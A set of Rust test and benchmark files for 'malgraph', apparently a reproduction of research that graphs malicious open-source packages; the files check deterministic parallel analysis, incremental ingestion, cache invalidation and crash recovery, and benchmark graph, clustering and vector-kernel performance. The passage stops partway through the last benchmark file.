/// folded profile (bytes), the folded frames (stacks + counts), and the
/// section reports.
fn profiled_run(threads: usize) -> (String, Vec<obs::FoldedFrame>, Vec<String>) {
    let clock = Arc::new(obs::FakeClock::new());
    obs::enable_with_clock(clock as Arc<dyn obs::Clock>);
    obs::reset();
    let repro = Repro::with_mode(SEED, SCALE, AnalyzeMode::Indexed);
    let ids: Vec<&str> = EXPERIMENTS.iter().chain(EXTENSIONS.iter()).copied().collect();
    let sections = repro.run_all(&ids, threads);
    let snapshot = obs::snapshot();
    obs::disable();
    (snapshot.to_folded(), snapshot.folded, sections)
}

#[test]
fn folded_profile_is_byte_identical_at_1_and_7_threads() {
    let (folded_1, frames_1, sections_1) = profiled_run(1);
    let (folded_7, frames_7, sections_7) = profiled_run(7);

    // The profile observed something real before we compare it.
    assert!(
        frames_1.iter().any(|f| f.stack == "repro/build;build;build/similar"),
        "similarity stage missing from the folded profile"
    );
    assert!(
        frames_1
            .iter()
            .any(|f| f.stack.starts_with("repro/build;build;build/similar;build/similar/ecosystem=")),
        "per-ecosystem worker spans missing from the folded profile"
    );
    assert!(
        frames_1.iter().any(|f| f.stack.starts_with("analyze/")),
        "analysis sections missing from the folded profile"
    );
    assert!(
        frames_1.iter().any(|f| f.stack.starts_with("analysis/index/")),
        "lazy index spans missing from the folded profile"
    );

    // The contract: byte-identical folded export, frame-identical
    // stacks/counts (the export alone would hide count differences —
    // a fake clock that never advances weights every line 0), and
    // byte-identical section output while profiling.
    assert_eq!(folded_1, folded_7, "folded export must not depend on thread count");
    assert_eq!(frames_1, frames_7, "folded frames must not depend on thread count");
    assert_eq!(sections_1, sections_7, "section reports must not depend on thread count");
}
