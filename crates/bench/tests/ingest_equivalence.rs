//! Byte-identity gate for the incremental ingestion path (ISSUE 8).
//!
//! The oracle is a one-shot [`build`] over the union corpus, analysed by
//! the serial [`AnalyzeMode::Uncached`] harness. A graph grown window by
//! window through [`MalGraph::apply_delta`] must reproduce every section
//! of every experiment and extension **byte for byte** — serial on a
//! context whose Duplicated caches were *extended* across windows, and
//! fanned out over 7 worker threads on a context whose caches are all
//! first-touched concurrently. Any divergence means a cache survived a
//! delta it should not have, or the delta emission drifted from the
//! one-shot stage order.
//!
//! The suite also pins the invalidation accounting: every drop/extension
//! of a PR7 cache increments an `ingest.*` counter, so a stale-cache
//! regression (a cache silently *kept* where the matrix says drop) shows
//! up as a counter mismatch even before it corrupts a section.

use crawler::{collect, partition_windows, union_dataset, CorpusDelta};
use malgraph_bench::{AnalyzeMode, Repro, EXPERIMENTS, EXTENSIONS};
use malgraph_core::{build, BuildOptions, IngestState, MalGraph, Relation};
use registry_sim::{WindowPlan, World, WorldConfig};
use std::collections::HashMap;

/// Small but structurally complete world: all relations are populated
/// and every section renders non-trivial rows at this scale.
const SEED: u64 = 5;
const SCALE: f64 = 0.05;
const WINDOWS: usize = 4;

fn world() -> World {
    let config = WorldConfig {
        seed: SEED,
        ..WorldConfig::default()
    }
    .with_scale(SCALE);
    World::generate(config)
}

fn deltas() -> Vec<CorpusDelta> {
    let world = world();
    let dataset = collect(&world);
    let plan = WindowPlan::disclosure_quantiles(&world, WINDOWS);
    partition_windows(&dataset, &plan)
}

fn all_ids() -> Vec<&'static str> {
    EXPERIMENTS.iter().chain(EXTENSIONS.iter()).copied().collect()
}

fn counters() -> HashMap<String, u64> {
    obs::snapshot().counters.into_iter().collect()
}

/// `counter[name]` growth between two snapshots.
fn grew(before: &HashMap<String, u64>, after: &HashMap<String, u64>, name: &str) -> u64 {
    after.get(name).copied().unwrap_or(0) - before.get(name).copied().unwrap_or(0)
}

fn assert_sections_equal(reference: &[String], candidate: &[String], ids: &[&str], label: &str) {
    assert_eq!(reference.len(), candidate.len());
    for ((id, expected), got) in ids.iter().zip(reference).zip(candidate) {
        assert_eq!(
            got, expected,
            "{label}: section `{id}` diverged from the one-shot reference"
        );
    }
}

#[test]
fn windowed_ingest_reproduces_the_one_shot_analysis() {
    obs::enable();
    let ids = all_ids();
    let deltas = deltas();
    let union = union_dataset(&deltas);
    let options = BuildOptions::default();

    // Oracle: one-shot build over the union, analysed uncached + serial.
    let oracle = Repro::from_parts(
        world(),
        union.clone(),
        build(&union, &options),
        AnalyzeMode::Uncached,
    );
    let reference = oracle.run_all(&ids, 1);

    // Candidate A: ingest window by window, *forcing* every lazy cache
    // between deltas so the next `apply_delta` must extend or drop a
    // populated cache (the hard case — a fresh context never exercises
    // the invalidation matrix at all). The counter deltas pin the
    // matrix: 3 non-Duplicated component indexes, 3 adjacency CSRs, the
    // stats table and the analysis index dropped per subsequent window;
    // the Duplicated component index and CSR extended in place.
    let mut graph = MalGraph::empty();
    let mut state = IngestState::new();
    let before = counters();
    for delta in &deltas {
        graph.apply_delta(delta, &options, &mut state);
        for relation in Relation::ALL {
            let _ = graph.groups(relation);
            let _ = graph.adjacency(relation);
            let _ = graph.relation_stats(relation);
        }
        let _ = graph.analysis_index(state.dataset());
    }
    let after = counters();
    let invalidating = (WINDOWS - 1) as u64;
    assert_eq!(grew(&before, &after, "ingest.windows"), WINDOWS as u64);
    assert_eq!(
        grew(&before, &after, "ingest.invalidated{cache=components}"),
        3 * invalidating
    );
    assert_eq!(
        grew(&before, &after, "ingest.invalidated{cache=adjacency}"),
        3 * invalidating
    );
    assert_eq!(grew(&before, &after, "ingest.invalidated{cache=stats}"), invalidating);
    assert_eq!(grew(&before, &after, "ingest.invalidated{cache=analysis}"), invalidating);
    assert_eq!(grew(&before, &after, "ingest.extended{cache=components}"), invalidating);
    assert_eq!(grew(&before, &after, "ingest.extended{cache=adjacency}"), invalidating);

    // The ingested corpus is the union, byte for byte.
    assert_eq!(state.dataset().packages, union.packages);
    assert_eq!(state.dataset().reports, union.reports);

    // Serial pass over candidate A: its Duplicated component index and
    // CSR are the *extended* instances, everything else rebuilt lazily.
    let ingested = Repro::from_parts(world(), state.dataset().clone(), graph, AnalyzeMode::Indexed);
    let serial = ingested.run_all(&ids, 1);
    assert_sections_equal(&reference, &serial, &ids, "ingested/1-thread");

    // Candidate B: a second incremental context left cold (no queries
    // between windows), analysed at 7 threads so the shared caches are
    // first-touched concurrently.
    let mut graph = MalGraph::empty();
    let mut state = IngestState::new();
    for delta in &deltas {
        graph.apply_delta(delta, &options, &mut state);
    }
    let cold = Repro::from_parts(world(), state.dataset().clone(), graph, AnalyzeMode::Indexed);
    let parallel = cold.run_all(&ids, 7);
    assert_sections_equal(&reference, &parallel, &ids, "ingested/7-thread");

    // Warm rerun on the extended-cache context must also be stable.
    let warm = ingested.run_all(&ids, 7);
    assert_sections_equal(&reference, &warm, &ids, "ingested/warm-rerun");
}

#[test]
fn sandbox_cache_entries_stay_valid_as_the_corpus_grows() {
    // The one cache the invalidation matrix leaves untouched: sandbox
    // verdicts are keyed by source content, so entries cached in an
    // early window must still answer for the grown corpus. Replay every
    // window's archives through one long-lived cache and compare each
    // verdict against a fresh uncached sandbox.
    let sandbox = detector::DynamicDetector::default();
    let mut cache = detector::SandboxCache::default();
    let mut archives = 0usize;
    for delta in deltas() {
        for package in &delta.packages {
            if let Some(archive) = &package.archive {
                archives += 1;
                let cached = cache.run(&archive.code).verdict.labels.clone();
                assert_eq!(
                    cached,
                    sandbox.analyze_source(&archive.code).labels,
                    "stale sandbox verdict for {} after growing the corpus",
                    package.id
                );
            }
        }
        // Deduplication across windows keeps the cache strictly smaller
        // than the archive census — re-released code hits old entries.
        assert!(cache.len() <= archives);
    }
    assert!(archives > 0, "corpus has no recovered archives at this scale");
    assert!(
        cache.len() < archives,
        "campaign re-releases should deduplicate ({} entries / {archives} archives)",
        cache.len()
    );
}
