//! Byte-identity gate for the indexed analysis path (ISSUE 7).
//!
//! The serial [`AnalyzeMode::Uncached`] harness — which recomputes every
//! component grouping, release sequence and sandbox verdict from scratch
//! on each query — is the reference. The indexed mode, serial and fanned
//! out over 7 worker threads, must reproduce every section of every
//! experiment and extension **byte for byte**. Any divergence means an
//! index is stale, a cache leaked state between sections, or the
//! parallel assembly reordered output.

use malgraph_bench::{AnalyzeMode, Repro, EXPERIMENTS, EXTENSIONS};

/// Small but structurally complete world: all relations are populated
/// and every section renders non-trivial rows at this scale.
const SEED: u64 = 5;
const SCALE: f64 = 0.05;

fn all_ids() -> Vec<&'static str> {
    EXPERIMENTS.iter().chain(EXTENSIONS.iter()).copied().collect()
}

fn assert_sections_equal(reference: &[String], candidate: &[String], ids: &[&str], label: &str) {
    assert_eq!(reference.len(), candidate.len());
    for ((id, expected), got) in ids.iter().zip(reference).zip(candidate) {
        assert_eq!(
            got, expected,
            "{label}: section `{id}` diverged from the uncached serial reference"
        );
    }
}

#[test]
fn indexed_analysis_is_byte_identical_to_serial_reference() {
    let ids = all_ids();

    // Reference pass: uncached, serial, fresh context.
    let reference = Repro::with_mode(SEED, SCALE, AnalyzeMode::Uncached).run_all(&ids, 1);

    // Indexed serial, on a fresh context so every cache is built lazily
    // by the queries themselves.
    let indexed = Repro::with_mode(SEED, SCALE, AnalyzeMode::Indexed);
    let serial = indexed.run_all(&ids, 1);
    assert_sections_equal(&reference, &serial, &ids, "indexed/1-thread");

    // Indexed at 7 threads on another fresh context: first touches of the
    // shared OnceLock-backed indexes now race, and sections are assembled
    // from per-slot results rather than in execution order.
    let parallel = Repro::with_mode(SEED, SCALE, AnalyzeMode::Indexed).run_all(&ids, 7);
    assert_sections_equal(&reference, &parallel, &ids, "indexed/7-thread");

    // Re-running on the warm indexed context must also be stable: caches
    // are immutable after first build, so hits equal the first answer.
    let warm = indexed.run_all(&ids, 7);
    assert_sections_equal(&reference, &warm, &ids, "indexed/warm-rerun");
}
