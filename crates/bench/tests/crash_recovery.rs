//! The crash-fault injection matrix (ISSUE 10): every named crash point
//! of the checkpointed ingest driver, at 1 and 7 similarity threads,
//! under both a clean resume and a corrupted-latest-checkpoint fallback.
//!
//! Every cell follows the same script:
//!
//! 1. run the driver with the cell's crash point armed and assert the
//!    simulated crash actually fired there;
//! 2. (fallback cells) flip one bit inside the newest generation
//!    snapshot the crash left behind;
//! 3. predict the exact `recovery.*` counters the resume must emit from
//!    nothing but the on-disk state — generations present, journal
//!    length, which file was corrupted;
//! 4. resume with an unarmed plan and assert (a) the recovery counters
//!    equal the prediction *exactly* (no extra rungs, no missing ones)
//!    and (b) the finished graph is **byte-identical** to an
//!    uninterrupted one-shot build over the union corpus — node table,
//!    edge list, and similarity diagnostics down to the `f32` bits.
//!
//! The counter prediction is deliberately derived from disk, not from
//! knowledge of which point crashed: if recovery ever takes a different
//! ladder path than its own artifacts imply, the cell fails.

use crawler::{collect, partition_windows, union_dataset, CorpusDelta};
use malgraph_core::{
    build, run_checkpointed_ingest, BuildOptions, CheckpointOptions, CheckpointStore,
    IngestRunError, MalGraph, CRASH_POINTS,
};
use oss_types::CrashPlan;
use registry_sim::{FaultPlan, WindowPlan, World, WorldConfig};
use std::collections::BTreeMap;
use std::path::Path;
use std::sync::{OnceLock, RwLock};

/// The obs registry is process-global: the matrix test reads counters
/// between `reset` and `snapshot`, so any other test that might emit
/// `recovery.*` takes the read side while the matrix holds write.
fn obs_gate() -> &'static RwLock<()> {
    static GATE: OnceLock<RwLock<()>> = OnceLock::new();
    GATE.get_or_init(RwLock::default)
}

fn fixture() -> Vec<CorpusDelta> {
    let world = World::generate(WorldConfig::small(37));
    let dataset = collect(&world);
    let plan = WindowPlan::disclosure_quantiles(&world, 3);
    partition_windows(&dataset, &plan)
}

/// Per-ecosystem similarity diagnostics in comparable form: name, pairs,
/// chosen k, and the trace floats as raw bits.
type DiagnosticsSignature = Vec<(String, Vec<(usize, usize)>, usize, Vec<(usize, u32)>)>;
/// Everything the byte-identity contract covers: node table, edge list,
/// similarity diagnostics.
type GraphSignature = (Vec<String>, Vec<(usize, usize, String)>, DiagnosticsSignature);

fn signature(graph: &MalGraph) -> GraphSignature {
    let nodes = graph.graph.nodes().map(|(_, n)| format!("{n:?}")).collect();
    let edges = graph
        .graph
        .edges()
        .map(|e| (e.from.index(), e.to.index(), format!("{:?}", e.label)))
        .collect();
    let diagnostics = graph
        .similarity_diagnostics
        .iter()
        .map(|(eco, out)| {
            (
                format!("{eco:?}"),
                out.pairs.clone(),
                out.chosen_k,
                out.trace.iter().map(|&(k, f)| (k, f.to_bits())).collect(),
            )
        })
        .collect();
    (nodes, edges, diagnostics)
}

fn temp_dir(tag: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!("malgraph-crashmx-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// Flips one bit in the body of `path` (well past the envelope header),
/// returning false when the file does not exist.
fn flip_bit(path: &Path) -> bool {
    let Ok(mut bytes) = std::fs::read(path) else {
        return false;
    };
    let target = bytes.len() - 40;
    bytes[target] ^= 0x08;
    std::fs::write(path, &bytes).expect("rewrite corrupted file");
    true
}

/// Predicts the exact `recovery.*` counters a resume over `store` must
/// emit, from the on-disk state alone. `corrupted_newest` marks whether
/// the newest generation file was bit-flipped after the crash.
fn predict_counters(store: &CheckpointStore, corrupted_newest: bool) -> BTreeMap<String, u64> {
    let generations = store.generations().expect("list generations");
    let valid: Vec<usize> = if corrupted_newest && !generations.is_empty() {
        generations[..generations.len() - 1].to_vec()
    } else {
        generations.clone()
    };
    let mut journal_len = 0usize;
    while store
        .read_journal(journal_len)
        .expect("journal entries written atomically before a crash are readable")
        .is_some()
    {
        journal_len += 1;
    }
    let base = valid.last().copied().unwrap_or(0);
    let replayed = journal_len.saturating_sub(base) as u64;

    let mut expected = BTreeMap::new();
    let mut add = |name: &str, value: u64| {
        if value > 0 {
            expected.insert(name.to_string(), value);
        }
    };
    if corrupted_newest && !generations.is_empty() {
        add("recovery.discarded{stage=checkpoint}", 1);
        add("recovery.fallbacks{stage=generation}", 1);
    }
    add("recovery.resumed{stage=checkpoint}", !valid.is_empty() as u64);
    add("recovery.replayed{stage=journal}", replayed);
    if base == 0 && journal_len == 0 && !generations.is_empty() {
        add("recovery.fallbacks{stage=rebuild}", 1);
    }
    expected
}

/// Every crash point × {1, 7} threads × {clean, corrupted-latest}. One
/// test function on purpose: the cells share the process-global obs
/// registry, and the reset/snapshot windows must not interleave.
#[test]
fn crash_matrix_resumes_byte_identically_with_exact_counters() {
    let _gate = obs_gate().write().unwrap_or_else(|e| e.into_inner());
    let deltas = fixture();
    let union = union_dataset(&deltas);

    for threads in [1usize, 7] {
        let mut options = BuildOptions::default();
        options.similarity.threads = threads;
        let oracle = signature(&build(&union, &options));

        for (index, &point) in CRASH_POINTS.iter().enumerate() {
            // Arm the second occurrence where the point repeats per
            // window (a mid-run crash, with durable state already
            // behind it); `collect/merge` fires once per invocation,
            // so only its first occurrence is reachable.
            let occurrence = if point == "collect/merge" { 1 } else { 2 };
            for corrupt_latest in [false, true] {
                let tag = format!("t{threads}-p{index}-c{}", u8::from(corrupt_latest));
                let dir = temp_dir(&tag);
                let store = CheckpointStore::open(&dir).expect("open store");

                let crashed = run_checkpointed_ingest(
                    &deltas,
                    &options,
                    &store,
                    &CrashPlan::at(point, occurrence),
                    &CheckpointOptions::default(),
                );
                match crashed {
                    Err(IngestRunError::Crashed(signal)) => {
                        assert_eq!(signal.point, point, "wrong crash point fired");
                        assert_eq!(signal.occurrence, occurrence);
                    }
                    Ok(_) => panic!("armed {point}:{occurrence} did not fire"),
                    Err(IngestRunError::Store(e)) => panic!("store error instead of crash: {e}"),
                }

                let mut corrupted_newest = false;
                if corrupt_latest {
                    if let Some(&newest) =
                        store.generations().expect("list").last()
                    {
                        corrupted_newest = flip_bit(&dir.join(format!("gen-{newest:06}.json")));
                    }
                }
                let expected = predict_counters(&store, corrupted_newest);

                obs::reset();
                obs::enable();
                let resumed = run_checkpointed_ingest(
                    &deltas,
                    &options,
                    &store,
                    &CrashPlan::none(),
                    &CheckpointOptions::default(),
                );
                let snap = obs::snapshot();
                obs::disable();

                let (graph, state) = resumed.unwrap_or_else(|e| {
                    panic!("resume failed at {point}:{occurrence} (threads {threads}): {e}")
                });
                let actual: BTreeMap<String, u64> = snap
                    .counters
                    .iter()
                    .filter(|(name, _)| name.starts_with("recovery."))
                    .map(|(name, value)| (name.clone(), *value))
                    .collect();
                assert_eq!(
                    actual, expected,
                    "recovery counters diverged at {point}:{occurrence} \
                     (threads {threads}, corrupted {corrupt_latest})"
                );

                assert_eq!(state.windows_applied(), deltas.len());
                assert_eq!(state.dataset().packages, union.packages);
                assert_eq!(state.dataset().reports, union.reports);
                assert_eq!(
                    signature(&graph),
                    oracle,
                    "resume after {point}:{occurrence} (threads {threads}, corrupted \
                     {corrupt_latest}) is not byte-identical to the uninterrupted build"
                );
                let _ = std::fs::remove_dir_all(&dir);
            }
        }
    }
}

/// The seeded side of the injector: `FaultPlan::crash_plan` derives a
/// (point, occurrence) pair from the same keyed-stream fault engine the
/// transport uses, and a run killed by that plan still resumes to the
/// oracle — the path the sweep harnesses use when no explicit
/// `--crash-at` is given.
#[test]
fn fault_plan_seeded_crashes_resume_to_the_oracle() {
    let _gate = obs_gate().read().unwrap_or_else(|e| e.into_inner());
    let deltas = fixture();
    let union = union_dataset(&deltas);
    let options = BuildOptions::default();
    let oracle = signature(&build(&union, &options));
    let faults = FaultPlan::new(99);

    for case in 0..4u64 {
        let crash = faults.crash_plan(case, CRASH_POINTS);
        let (point, occurrence) = crash.armed().expect("a non-empty point set arms a point");
        let dir = temp_dir(&format!("seeded-{case}"));
        let store = CheckpointStore::open(&dir).expect("open store");
        match run_checkpointed_ingest(&deltas, &options, &store, &crash, &CheckpointOptions::default()) {
            Err(IngestRunError::Crashed(signal)) => {
                assert_eq!(signal.point, point);
                assert_eq!(signal.occurrence, occurrence);
            }
            // High occurrences of once-per-run points never fire; the
            // run completing is the correct outcome for those draws.
            Ok(_) => {}
            Err(IngestRunError::Store(e)) => panic!("store error: {e}"),
        }
        let (graph, state) = run_checkpointed_ingest(
            &deltas,
            &options,
            &store,
            &CrashPlan::none(),
            &CheckpointOptions::default(),
        )
        .expect("resume");
        assert_eq!(state.windows_applied(), deltas.len());
        assert_eq!(signature(&graph), oracle, "seeded case {case} diverged");
        let _ = std::fs::remove_dir_all(&dir);
    }
}
