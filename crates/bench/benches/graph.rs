//! Graph-store benchmarks: edge insertion, component extraction, degree
//! statistics — the operations behind Table II and the group censuses.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use graphstore::stats::RelationStats;
use graphstore::{NodeId, PropertyGraph};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

fn clique_graph(nodes: usize, clique: usize) -> PropertyGraph<u32, u8> {
    let mut g = PropertyGraph::new();
    let ids: Vec<NodeId> = (0..nodes as u32).map(|i| g.add_node(i)).collect();
    for chunk in ids.chunks(clique) {
        for i in 0..chunk.len() {
            for j in (i + 1)..chunk.len() {
                g.add_undirected_edge(chunk[i], chunk[j], 1);
            }
        }
    }
    g
}

fn random_graph(nodes: usize, edges: usize, seed: u64) -> PropertyGraph<u32, u8> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut g = PropertyGraph::new();
    let ids: Vec<NodeId> = (0..nodes as u32).map(|i| g.add_node(i)).collect();
    for _ in 0..edges {
        let a = ids[rng.gen_range(0..ids.len())];
        let b = ids[rng.gen_range(0..ids.len())];
        if a != b {
            g.add_undirected_edge(a, b, 1);
        }
    }
    g
}

fn bench_construction(c: &mut Criterion) {
    let mut group = c.benchmark_group("graph_build_cliques");
    for &n in &[1_000usize, 10_000] {
        group.bench_with_input(BenchmarkId::from_parameter(n), &n, |b, &n| {
            b.iter(|| clique_graph(n, 20));
        });
    }
    group.finish();
}

fn bench_components_unionfind(c: &mut Criterion) {
    let mut group = c.benchmark_group("components");
    for &n in &[1_000usize, 10_000] {
        let g = random_graph(n, n * 4, 7);
        group.bench_with_input(BenchmarkId::new("unionfind", n), &g, |b, g| {
            b.iter(|| g.components(|_| true));
        });
        // BFS baseline (the ablation DESIGN.md calls out): reachable()
        // from every unvisited node.
        group.bench_with_input(BenchmarkId::new("bfs", n), &g, |b, g| {
            b.iter(|| {
                let mut seen = vec![false; g.node_count()];
                let mut comps = 0usize;
                for id in g.node_ids() {
                    if !seen[id.index()] {
                        for n in g.reachable(id, |_| true) {
                            seen[n.index()] = true;
                        }
                        comps += 1;
                    }
                }
                comps
            });
        });
    }
    group.finish();
}

fn bench_degree_stats(c: &mut Criterion) {
    let g = clique_graph(10_000, 25);
    c.bench_function("relation_stats_10k", |b| {
        b.iter(|| RelationStats::compute(&g, |&l| l == 1))
    });
}

criterion_group!(
    benches,
    bench_construction,
    bench_components_unionfind,
    bench_degree_stats
);
criterion_main!(benches);
