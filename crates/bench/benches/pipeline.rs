//! End-to-end pipeline benchmarks: world generation, collection, and
//! MALGRAPH construction — the stages behind every table and figure.

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use crawler::collect;
use malgraph_core::{build, BuildOptions};
use registry_sim::{World, WorldConfig};

fn bench_world_generation(c: &mut Criterion) {
    let mut group = c.benchmark_group("world_generate");
    group.sample_size(10);
    for scale in [0.02f64, 0.05] {
        group.bench_with_input(BenchmarkId::from_parameter(scale), &scale, |b, &scale| {
            b.iter(|| World::generate(WorldConfig { seed: 1, ..WorldConfig::default() }.with_scale(scale)));
        });
    }
    group.finish();
}

fn bench_collection(c: &mut Criterion) {
    let world = World::generate(WorldConfig::small(2));
    let mut group = c.benchmark_group("collect");
    group.sample_size(10);
    group.bench_function("small_world", |b| b.iter(|| collect(&world)));
    group.finish();
}

fn bench_graph_build(c: &mut Criterion) {
    let world = World::generate(WorldConfig::small(3));
    let dataset = collect(&world);
    let mut group = c.benchmark_group("malgraph_build");
    group.sample_size(10);
    group.bench_function("small_corpus", |b| {
        b.iter(|| build(&dataset, &BuildOptions::default()))
    });
    group.finish();
}

/// Overhead of the `obs` instrumentation on collect→build: the no-op
/// path (disabled, one branch per site) against the enabled registry.
/// The ISSUE-4 budget is <2% — `obs_overhead` measures it one-shot,
/// this group tracks it over time.
fn bench_obs_overhead(c: &mut Criterion) {
    let world = World::generate(WorldConfig::small(4));
    let mut group = c.benchmark_group("pipeline_obs");
    group.sample_size(10);
    group.bench_function("disabled", |b| {
        obs::disable();
        b.iter(|| {
            let dataset = collect(&world);
            build(&dataset, &BuildOptions::default())
        });
    });
    group.bench_function("enabled", |b| {
        obs::enable();
        b.iter(|| {
            obs::reset();
            let dataset = collect(&world);
            build(&dataset, &BuildOptions::default())
        });
        obs::disable();
    });
    group.finish();
}

criterion_group!(
    benches,
    bench_world_generation,
    bench_collection,
    bench_graph_build,
    bench_obs_overhead
);
criterion_main!(benches);
