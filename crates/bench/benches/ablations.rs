//! Design-choice ablations called out in `DESIGN.md` §6:
//!
//! * embedding dimensionality (cost side; the quality side is reported by
//!   the `repro validation` section);
//! * auto-k schedule: the paper's k→k+1 growth vs. the geometric speed-up;
//! * K-Means engine: cold-restart grow-k (seed behavior) vs. the
//!   warm-started parallel engine;
//! * similarity threshold sweep (pair volume);
//! * dedup by hash vs. name+version fallback (DG construction with
//!   unavailable packages).

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use malgraph_core::{similar_pairs, SimilarityConfig};
use minilang::gen::{generate, mutate, Behavior, Mutation};
use minilang::printer::print_module;
use oss_types::PackageId;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

fn lineage_corpus(lineages: usize, per: usize, seed: u64) -> Vec<(PackageId, String)> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out = Vec::new();
    for l in 0..lineages {
        let mut cur = generate(Behavior::ALL[l % Behavior::ALL.len()], &mut rng);
        for m in 0..per {
            if m > 0 && rng.gen_bool(0.4) {
                let mutation = Mutation::ALL[rng.gen_range(0..Mutation::ALL.len())];
                cur = mutate(&cur, mutation, &mut rng);
            }
            let id: PackageId = format!("pypi/lin{l}-p{m}@1.0.0").parse().expect("valid");
            out.push((id, print_module(&cur)));
        }
    }
    out
}

fn bench_embedding_dim(c: &mut Criterion) {
    let corpus = lineage_corpus(10, 8, 1);
    let entries: Vec<(PackageId, &str)> = corpus
        .iter()
        .map(|(i, s)| (i.clone(), s.as_str()))
        .collect();
    let mut group = c.benchmark_group("ablation_similarity_dim");
    group.sample_size(10);
    for &dim in &[256usize, 1024, 3072] {
        let config = SimilarityConfig {
            dim,
            ..SimilarityConfig::default()
        };
        group.bench_with_input(BenchmarkId::from_parameter(dim), &config, |b, config| {
            b.iter(|| similar_pairs(&entries, config));
        });
    }
    group.finish();
}

fn bench_autok_schedule(c: &mut Criterion) {
    let corpus = lineage_corpus(12, 10, 2);
    let entries: Vec<(PackageId, &str)> = corpus
        .iter()
        .map(|(i, s)| (i.clone(), s.as_str()))
        .collect();
    let mut group = c.benchmark_group("ablation_autok_growth");
    group.sample_size(10);
    for &(label, growth) in &[("paper_plus1", 1.0f64), ("geometric_1.3", 1.3)] {
        let config = SimilarityConfig {
            dim: 256,
            growth,
            max_k: 48,
            ..SimilarityConfig::default()
        };
        group.bench_with_input(BenchmarkId::from_parameter(label), &config, |b, config| {
            b.iter(|| similar_pairs(&entries, config));
        });
    }
    group.finish();
}

fn bench_threshold_sweep(c: &mut Criterion) {
    let corpus = lineage_corpus(10, 8, 3);
    let entries: Vec<(PackageId, &str)> = corpus
        .iter()
        .map(|(i, s)| (i.clone(), s.as_str()))
        .collect();
    let mut group = c.benchmark_group("ablation_similarity_threshold");
    group.sample_size(10);
    for &threshold in &[0.80f32, 0.90, 0.97] {
        let config = SimilarityConfig {
            dim: 512,
            threshold,
            ..SimilarityConfig::default()
        };
        group.bench_with_input(
            BenchmarkId::from_parameter(threshold),
            &config,
            |b, config| {
                b.iter(|| similar_pairs(&entries, config));
            },
        );
    }
    group.finish();
}

fn bench_growk_engine(c: &mut Criterion) {
    // The whole grow-k schedule, cold restarts (what the seed paid at
    // every step) vs. warm starts (what `similar_pairs` pays now).
    // On this tiny corpus Lloyd converges in a couple of iterations and
    // k-means++ seeding dominates, so the two are near-even; the warm
    // win appears at corpus scale (clustering.rs engine groups and
    // BENCH_PR1.json, n ≥ 5000 × dim 1024).
    let corpus = lineage_corpus(12, 8, 5);
    let embedder = embed::Embedder::new(256);
    let data: Vec<Vec<f32>> = corpus
        .iter()
        .filter_map(|(_, code)| minilang::parse(code).ok())
        .map(|module| embedder.embed(&module).as_slice().to_vec())
        .collect();
    let config = cluster::KMeansConfig::default();
    let mut schedule = vec![3usize];
    while *schedule.last().expect("non-empty") < 24 {
        let k = *schedule.last().expect("non-empty");
        schedule.push((((k as f64) * 1.3) as usize).max(k + 1).min(24));
    }
    let mut group = c.benchmark_group("ablation_growk_engine");
    group.sample_size(10);
    group.bench_function("cold_restart", |b| {
        b.iter(|| {
            let mut rng = StdRng::seed_from_u64(6);
            schedule
                .iter()
                .map(|&k| cluster::kmeans(&data, k, &config, &mut rng).inertia)
                .last()
        })
    });
    group.bench_function("warm_start", |b| {
        b.iter(|| {
            let mut rng = StdRng::seed_from_u64(6);
            let mut current = cluster::kmeans(&data, schedule[0], &config, &mut rng);
            for &k in &schedule[1..] {
                let extra = k.saturating_sub(current.k());
                current = cluster::kmeans_warm(&data, &current.centroids, extra, &config, &mut rng);
            }
            current.inertia
        })
    });
    group.finish();
}

fn bench_dedup_strategies(c: &mut Criterion) {
    // DG construction: hashing the whole artifact vs. comparing
    // name+version strings (the fallback for unavailable packages).
    let mut rng = StdRng::seed_from_u64(4);
    let artifacts: Vec<(String, String)> = (0..2000)
        .map(|i| {
            let name = format!("pkg-{}", i % 500); // 4 duplicates per name
            let body: String = (0..200).map(|_| rng.gen_range(b'a'..=b'z') as char).collect();
            (name, body)
        })
        .collect();
    let mut group = c.benchmark_group("ablation_dedup");
    group.bench_function("by_sha256", |b| {
        b.iter(|| {
            let mut seen = std::collections::HashMap::new();
            for (name, body) in &artifacts {
                let h = oss_types::Sha256::digest_str(body);
                seen.entry(h).or_insert_with(Vec::new).push(name);
            }
            seen.len()
        })
    });
    group.bench_function("by_name_version", |b| {
        b.iter(|| {
            let mut seen = std::collections::HashMap::new();
            for (name, _) in &artifacts {
                seen.entry(name.clone()).or_insert_with(Vec::new).push(());
            }
            seen.len()
        })
    });
    group.finish();
}

criterion_group!(
    benches,
    bench_embedding_dim,
    bench_autok_schedule,
    bench_growk_engine,
    bench_threshold_sweep,
    bench_dedup_strategies
);
criterion_main!(benches);
