//! Micro-benchmarks for the PR-6 vector kernels (DESIGN.md, "Vector
//! kernels"): the dot-product ladder — dense scalar, sparse·dense,
//! sparse·sparse, certified i8 window — at the paper's dim = 3072 /
//! nnz ≈ 350 embedding shape, and the three bitwise-equivalent K-Means
//! assignment kernels end to end.
//!
//! The one-shot `kernel_bench` binary records the headline numbers in
//! `BENCH_PR6.json`; this group exists for regression tracking of the
//! individual kernels.

use cluster::matrix::{dense_dot, sparse_dot_dense, sparse_dot_sparse};
use cluster::{kmeans_points, KMeansConfig, Kernel, Points};
use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

const DIM: usize = 3072;
const NNZ: usize = 350;

/// Random L2-normalized sparse rows with the embedder's occupancy
/// (~350 of 3072 buckets touched).
fn sparse_unit_rows(n: usize, seed: u64) -> Vec<(Vec<u32>, Vec<f32>)> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut mask = vec![false; DIM];
    (0..n)
        .map(|_| {
            mask.iter_mut().for_each(|m| *m = false);
            let mut placed = 0;
            while placed < NNZ {
                let i = rng.gen_range(0..DIM);
                if !mask[i] {
                    mask[i] = true;
                    placed += 1;
                }
            }
            let indices: Vec<u32> = (0..DIM as u32).filter(|&i| mask[i as usize]).collect();
            let mut values: Vec<f32> =
